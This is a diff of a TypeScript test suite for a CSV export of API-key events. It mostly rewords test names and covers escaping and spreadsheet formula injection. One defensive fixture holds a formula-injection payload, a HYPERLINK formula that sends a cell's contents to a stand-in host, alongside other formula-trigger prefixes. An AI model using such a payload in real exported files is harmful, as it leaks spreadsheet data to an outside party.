@@ -18,12 +18,12 @@ beforeAll(async () => {
 afterAll(() => Promise.all([sql.end(), gateway.end()]));
 
 describe('a user who reads events as CSV', () => {
-  it('gets a line of names alone before the first', async () => {
+  it('gets only a header row if there are no events', async () => {
     const { id } = await mintKey(user);
     expect(await readCsv(user, id)).toBe(`${header.join(',')}\r\n`);
   });
 
-  it('gets a file that is neither kept nor compressed on the way, without pages', async () => {
+  it('gets a file that no one caches or compresses on the way, without pages', async () => {
     const { id } = await mintKey(user);
     const response = await requestEvents(user, id, { accept: 'text/csv' });
     await response.text();
@@ -36,7 +36,7 @@ describe('a user who reads events as CSV', () => {
     expect(response.headers.has('Link')).toBe(false);
   });
 
-  it('gets line by line what the pages of JSON have', async () => {
+  it('gets the same events, row by row, as from the JSON pages', async () => {
     const { id } = await mintAgedKey(sql, user);
     const events = Array.from({ length: 230 }, (_, n) =>
       makeEvent(id, {
@@ -56,7 +56,7 @@ describe('a user who reads events as CSV', () => {
     expect(rows).toEqual([header, ...events.map(csvRow)]);
   });
 
-  it('gets those of a deleted key, by its keyId, and how many refusals one stands for', async () => {
+  it('gets the events of a deleted key by its keyId, with the count of refusals in each', async () => {
     const { id, keyId } = await mintKey(user);
     const event = makeEvent(id, {
       statusCode: 429,
@@ -70,7 +70,7 @@ describe('a user who reads events as CSV', () => {
     expect(parseCsv(await readCsv(user, keyId))).toEqual([header, csvRow(event)]);
   });
 
-  it('gets each of over two parts once, in order', async () => {
+  it('gets each event of more than two parts once, in order', async () => {
     const { id } = await mintKey(user);
     await fillEvents(sql, id, 12_002, { occurred_at: 'now() - make_interval(secs => n / 3)' });
     const expected = await sql`
@@ -81,7 +81,7 @@ describe('a user who reads events as CSV', () => {
     expect(rows.map(([eventId]) => eventId)).toEqual(expected.map((row) => row.event_id));
   });
 
-  it('gets those of a filter alone', async () => {
+  it('gets only the events of a filter', async () => {
     const { id } = await mintKey(user);
     const moment = (ago: number) => new Date(Date.now() - ago * 1000).toISOString();
     const events = Array.from({ length: 12 }, (_, n) =>
@@ -115,12 +115,12 @@ describe('a text in CSV', () => {
     ['quotes alone', '""'],
     ['a line feed', 'a\nb'],
     ['a carriage return', 'a\rb'],
-    ['a line end', 'a\r\nb'],
+    ['a line break', 'a\r\nb'],
     ['all of them', '","\r\n""'],
-    ['what other scripts have', 'münchen.example, 東京, 🔑'],
+    ['other scripts', 'münchen.example, 東京, 🔑'],
     ['a space at its ends', ' a '],
-    ['an equals sign within', 'a=1+1'],
-    ['a comma, and no formula', ',=1'],
+    ['an equals sign inside', 'a=1+1'],
+    ['a comma, but no formula', ',=1'],
   ])('is as it was recorded, with %s', async (_, text) => {
     const { id } = await mintKey(user);
     const event = makeEvent(id, { targetHost: text, servedByNodeId: text });
@@ -136,8 +136,8 @@ describe('a text in CSV', () => {
     ['@', '@x'],
     ['a tab', '\tx'],
     ['a carriage return', '\rx'],
-    ['= and a comma', '=HYPERLINK("http://a.example?"&A1,"x")'],
-  ])('that a spreadsheet would run is behind an apostrophe: %s', async (_, text) => {
+    ['an equals sign and a comma', '=HYPERLINK("http://a.example?"&A1,"x")'],
+  ])('that a spreadsheet would run has a leading apostrophe: %s', async (_, text) => {
     const { id } = await mintKey(user);
     const event = makeEvent(id, { targetHost: text, method: text.slice(0, 20) });
     await insertEvents(sql, [{ ...event, servedByNodeId: text }]);
@@ -170,7 +170,7 @@ describe('a refusal of CSV is a problem document', () => {
   });
 });
 
-describe('Accept', () => {
+describe('the Accept header', () => {
   let id: string;
 
   beforeAll(async () => {
